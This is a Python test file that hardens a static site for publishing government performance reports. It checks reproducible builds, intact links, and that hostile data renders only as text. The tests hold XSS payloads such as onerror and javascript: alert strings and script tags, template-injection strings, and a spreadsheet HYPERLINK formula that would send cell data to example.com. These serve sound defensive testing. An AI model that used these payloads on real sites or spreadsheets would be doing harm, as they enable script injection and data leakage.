"""Hardening: reproducible builds, no broken internal link or anchor, no script from data."""

from __future__ import annotations

import html as htmllib
import re
import time
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urldefrag, urlsplit

import pytest

from .conftest import DEMO, ROOT, build_site

OUR_JS = sorted((ROOT / "docs" / "assets" / "javascripts").glob("*.js"))


@pytest.fixture(scope="module")
def demo_twice(tmp_path_factory, demo_site) -> tuple[Path, Path]:
    """The session's demo site, and the same data built again later for the same address."""
    time.sleep(1.1)  # a clock that leaked into the output would now differ
    out = tmp_path_factory.mktemp("second")
    assert build_site(DEMO, out, site_url=demo_site.url).returncode == 0
    return demo_site.path, out / "site"


def tree(site: Path) -> dict[str, bytes]:
    return {p.relative_to(site).as_posix(): p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file()}


def test_two_builds_of_the_same_commit_are_byte_identical(demo_twice):
    first, second = map(tree, demo_twice)
    assert first.keys() == second.keys()
    assert [name for name in first if first[name] != second[name]] == []


class Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.ids: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if "id" in attrs:
            self.ids.add(attrs["id"])
        if tag == "a" and attrs.get("name"):
            self.ids.add(attrs["name"])
        for key in ("href", "src"):
            if attrs.get(key) and tag in ("a", "link", "script", "img", "source"):
                self.links.append(attrs[key])


def parse(path: Path) -> Links:
    parser = Links()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


def tag_is_a_plain_link(link: str) -> bool:
    # No protocol-relative address (//host/...): it would point at another host.
    return not link.startswith("//")


def test_no_broken_internal_link_or_anchor(demo_twice):
    site = demo_twice[0]
    pages = {p: parse(p) for p in site.rglob("*.html")}
    broken = []
    for page, found in pages.items():
        for link in found.links:
            parts = urlsplit(link)
            if parts.scheme in ("mailto", "tel", "javascript", "data"):
                continue  # not an address (Material's own buttons use javascript:void(0))
            if (parts.scheme or parts.netloc) and not link.startswith("https://example.org/"):
                assert tag_is_a_plain_link(link), link
                continue  # another host: only a link, never loaded (the crawl test proves it)
            target_url, anchor = urldefrag(link[len("https://example.org/"):] if parts.scheme else link)
            if link.startswith("https://example.org/") or (target_url.startswith("/") and not target_url.startswith("//")):
                target = site / unquote(target_url.lstrip("/"))
            else:
                target = (page.parent / unquote(target_url)) if target_url else page
            if target.is_dir():
                target = target / "index.html"
            if not target.exists():
                broken.append((page.relative_to(site).as_posix(), link))
            elif anchor and target.suffix == ".html":
                ids = pages[target.resolve()].ids if target.resolve() in pages else parse(target).ids
                if unquote(anchor) not in ids:
                    broken.append((page.relative_to(site).as_posix(), link))
    assert broken == []


def test_our_javascript_never_evaluates_strings():
    assert OUR_JS
    for path in OUR_JS:
        code = path.read_text(encoding="utf-8")
        assert not re.search(r"\beval\s*\(|new\s+Function\b|setTimeout\s*\(\s*['\"]|innerHTML\s*=", code), path.name


def test_no_inline_event_handler_or_script_code_reaches_a_page(demo_twice):
    options = 0
    for page in demo_twice[0].rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", text, re.I), page
        article = text[text.find("<article"): text.find("</article>")]
        assert "javascript:" not in article, page  # no script address in what the data fills
        for option in re.findall(r"data-chart='([^']*)'", text):
            # pyecharts' JsCode would put functions into an option: only plain JSON may reach a page.
            assert "function" not in htmllib.unescape(option) and "--x_x--" not in option, page
            options += 1
    assert options > 20


HOSTILE = ROOT / "tests" / "hostile"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from .conftest import SiteServer

    out = tmp_path_factory.mktemp("hostile")
    server = SiteServer(out / "site")
    result = build_site(HOSTILE, out, site_url=server.url)
    assert result.returncode == 0, result.stderr
    yield server
    server.close()


def test_hostile_text_never_runs_and_shows_literally(browser, hostile_site):
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    for path in ("", "2021/", "2021/hostile/", "2021/hostile-p1/", "departments/hostile/", "departments/", "data/", "data/fields/"):
        page.goto(hostile_site.url + path)  # the page's own markup, as loaded
        injected = page.evaluate("""() => document.querySelectorAll(
            'article script, article img, article iframe, article style, article [onload], article [onerror], ' +
            'article [onmouseover], article b, article i, article u, article em').length""")
        assert injected == 0, path
    page.goto(hostile_site.url + "2021/hostile/")
    page.wait_for_function("() => document.querySelectorAll('.jx-chart svg text').length > 0")
    assert page.inner_text("h1").startswith("<img src=x onerror=alert(1)> {{ 7*7 }} {% raw %} </div> [链接](javascript:alert(1))")
    article = page.inner_text("article")
    for literal in ("*强调* `代码` <a href=\"javascript:alert(4)\">点我</a> {a|富文本} {b} {c}", "<svg onload=alert(5)>",
                    "</td></tr></table><script>alert(2)</script>", "## 标题 <iframe src=javascript:alert(3)>"):
        assert literal in article
    chart_text = page.evaluate("[...document.querySelectorAll('.jx-chart svg text')].map(t => t.textContent)")
    assert "{a|标签}{b}" in chart_text and "'><img src=x onerror=alert(6)>" in chart_text  # ECharts shows them as text; the quote did not end the attribute
    # The tooltip is HTML: hovering a bar must show the name as text, not markup.
    bar = page.locator("#chart-fig-1 .jx-chart")
    box = bar.bounding_box()
    page.mouse.move(box["x"] + box["width"] * 0.5, box["y"] + box["height"] * 0.7)
    page.wait_for_function("() => [...document.querySelectorAll('.jx-chart div')].some(d => /onerror|标签/.test(d.innerHTML))")
    tooltips = page.evaluate("[...document.querySelectorAll('.jx-chart div')].map(d => d.innerHTML).join('')")
    assert "onerror" in tooltips or "标签" in tooltips, "the tooltip did not open"
    assert "<img" not in tooltips
    page.goto(hostile_site.url + "2021/hostile-p1/")
    page.wait_for_function("() => document.querySelectorAll('.jx-chart svg text').length > 0")
    article = page.inner_text("article")
    for literal in ("<b onmouseover=alert(10)>目标</b>", "{a|完成}</td>", "<style>body{display:none}</style>结论",
                    "<iframe src=javascript:alert(13)>", "*措施* <a href=\"javascript:alert(14)\">x</a>",
                    "[x](javascript:alert(12))", "{{ 7*7 }}{% if 1 %}x{% endif %}", "<img src=x onerror=alert(7)>{b}"):
        assert literal in article, literal
    assert page.is_visible("article h1")  # the <style> did not hide the page
    assert dialogs == []
    page.close()


def test_search_results_show_hostile_text_literally(browser, hostile_site):
    """Pagefind's excerpts and titles carry the page's text unescaped but for < and >: the
    search box must draw them as text (search.js), never as markup."""
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(hostile_site.url + "?q=onerror")
    # Results first show without their excerpts; the hostile text is in an excerpt.
    page.wait_for_function("() => document.querySelector('.md-search-result__list')?.innerText.includes('onerror=alert(')")
    results = page.locator(".md-search-result__list")
    assert results.locator("img, script, iframe, style, b, i, u, [onerror], [onload]").count() == 0
    assert "<img src=x onerror=alert(" in results.inner_text()
    assert dialogs == []
    page.close()


def test_open_data_never_hands_a_spreadsheet_a_formula(hostile_site):
    """The hostile region is =HYPERLINK(...): in every CSV it is text behind an apostrophe, in
    the XLSX a text cell showing exactly the data; numbers stay numbers."""
    import io

    from openpyxl import load_workbook

    from generator.spreadsheet import is_formula_like

    site = hostile_site.path
    region = '=HYPERLINK("http://example.com/?"&A1,"点击查看原文")'
    for csv_file in [site / "data/reports.csv", *site.glob("2021/*/chart-*.csv")]:
        import csv as csvlib

        rows = list(csvlib.reader(io.StringIO(csv_file.read_bytes().decode("utf-8-sig"))))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if is_formula_like(c)], csv_file
    rows = list(csvlib.reader(io.StringIO((site / "data/reports.csv").read_bytes().decode("utf-8-sig"))))
    assert rows[1][rows[0].index("地区")] == "'" + region
    book = load_workbook(io.BytesIO((site / "data/reports.xlsx").read_bytes()))
    sheet = book["报告"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("地区") + 1)
    assert cell.value == region and cell.data_type == "s" and cell.quotePrefix  # shown as is, never run
    total = sheet.cell(row=2, column=header.index("本年财政拨款支出") + 1)
    assert total.data_type == "n" and total.value == 100
    assert not [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_page_titles_come_from_the_data_and_stay_text(browser, hostile_site):
    import yaml

    data = yaml.safe_load((HOSTILE / "2021/hostile.yaml").read_text(encoding="utf-8"))
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(hostile_site.url + "2021/hostile/")
    assert page.title() == f"{data['title']} - 绩效公开"  # the report's own title, never its file name
    assert page.locator('meta[property="og:title"]').get_attribute("content") == data["title"]
    assert data["department"]["name"] in page.locator('meta[name="description"]').get_attribute("content")
    header = page.locator(".md-header__topic[data-md-component=header-topic]").inner_text()
    assert data["title"].split(" ")[0] in header  # the header shows it as text
    assert page.evaluate("document.querySelectorAll('head img, header img, header iframe').length") == 0
    assert page.evaluate("[...document.querySelectorAll('head script, header script')].filter(s => s.text.includes('alert')).length") == 0
    page.goto(hostile_site.url + "departments/hostile/")
    assert page.title() == f"{data['department']['name']} - 绩效公开"
    assert dialogs == []
    page.close()


def test_an_original_whose_name_holds_url_characters_downloads(browser, hostile_site):
    page = browser.new_page()
    page.goto(hostile_site.url + "2021/hostile/")
    link = page.locator("a", has_text="原始文件")
    href = link.get_attribute("href")
    assert "#" not in href and "%23" in href and "%25" in href  # percent-encoded, not a fragment
    from urllib.parse import urljoin

    response = page.request.get(urljoin(page.url, href))
    assert response.status == 200 and "恶意文件名测试" in response.text()
    page.close()
